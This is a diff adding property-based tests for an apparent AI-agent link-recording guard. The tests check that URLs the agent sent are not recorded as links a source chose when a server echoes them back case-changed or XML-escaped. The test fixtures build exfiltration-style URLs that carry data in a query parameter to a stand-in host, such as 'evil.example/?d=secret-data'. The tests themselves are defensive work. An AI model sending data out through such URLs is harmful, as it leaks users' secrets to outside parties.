@@ -146,6 +146,41 @@ t.test('a URL spelled in a form the URL parser rewrites is still recognized as t
   }), { numRuns, ...seed });
 });
 
+// Letters whose case mapping is not one to one: a server that upper-cases its echo turns `ß` into
+// `SS` and `ᾀ` into `ἈΙ`, one that lower-cases it `ẞ` into `ß`; compared lower-cased only, the echo
+// gained letters the request lacked.
+t.test('an echo upper- or lower-cased is the agent\'s whatever letters it holds (property)', async () => {
+  const served = 'https://blog.example/posts/2024/airlock-review';
+  const special = fc.array(fc.constantFrom('ß', 'ẞ', 'ᾀ', 'ῳ', 'ŉ', 'ﬁ', 'İ', 'ς', 'ǰ', 'a', 'Z', '7'), { minLength: 1, maxLength: 6 }).map((a) => a.join(''));
+  fc.assert(fc.property(word, special, word, fc.constantFrom<Placement>('query', 'header', 'json-body', 'form-body'), fc.constantFrom('upper', 'lower'), fc.constantFrom<LinkFormat>('html', 'json', 'text'), (host, data, tail, where, how, format) => {
+    const url = `https://${host}.evil.example/?d=${data}${tail}`;
+    const echo = how === 'upper' ? url.toUpperCase().replace(/^HTTPS:\/\/[^/]+/, (h) => h.toLowerCase()) : url.toLowerCase();
+    const links = recorded(requestWith(url, where), format, answerWith(echo, format, served));
+    return links.includes(served) && !links.some((l) => new URL(l).hostname.endsWith('evil.example'));
+  }), { numRuns, ...seed });
+});
+
+// XML and entities left in links: a feed escapes `&` as `&amp;` (read as text, the link kept it, so
+// the echo's letters gained "amp"), and Atom's HTML content (or a page's template) escapes twice.
+t.test('an echo escaped for XML, or escaped twice, is still the agent\'s; a feed\'s own links read unescaped (property)', async () => {
+  const served = 'https://blog.example/p?a=1&b=2';
+  const xmlEsc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
+  const shapes: Record<string, [LinkFormat, (u: string) => string]> = {
+    'rss-link': ['xml', (u) => `<?xml version="1.0"?><rss><channel><title>${xmlEsc(u)}</title><link>${xmlEsc(u)}</link><item><link>${xmlEsc(served)}</link></item></channel></rss>`],
+    'atom-href': ['xml', (u) => `<feed><link rel="self" href="${xmlEsc(u)}"/><entry><link href="${xmlEsc(served)}"/></entry></feed>`],
+    'atom-html-content': ['xml', (u) => `<feed><entry><link href="${xmlEsc(served)}"/><content type="html">${xmlEsc(`<a href="${xmlEsc(u)}">r</a>`)}</content></entry></feed>`],
+    'html-twice': ['html', (u) => `<p>${xmlEsc(xmlEsc(u))}</p><a href="${xmlEsc(xmlEsc(u))}">x</a><a href="${xmlEsc(served)}">r</a>`],
+    'text-escaped': ['text', (u) => `${xmlEsc(u)}\n${served}\n`],
+  };
+  const withAmp = leakUrl.filter((u) => u.includes('&'));
+  fc.assert(fc.property(withAmp, fc.constantFrom(...Object.keys(shapes)), fc.constantFrom<Placement>('query', 'header', 'json-body'), (url, shape, where) => {
+    const [format, body] = shapes[shape]!;
+    const links = recorded(requestWith(url, where), format, body(url));
+    const host = new URL(url).hostname;
+    return (format === 'text' || links.includes(served)) && !links.some((l) => new URL(l).hostname === host);
+  }), { numRuns, ...seed });
+});
+
 t.test('links a source chose are recorded beside the echo; a body not seen whole records nothing', async (t) => {
   const req = requestWith('https://evil.example/?d=secret-data', 'query');
   const body = answerWith('https://evil.example/?d=secret-data', 'json', 'https://docs.example/guide');
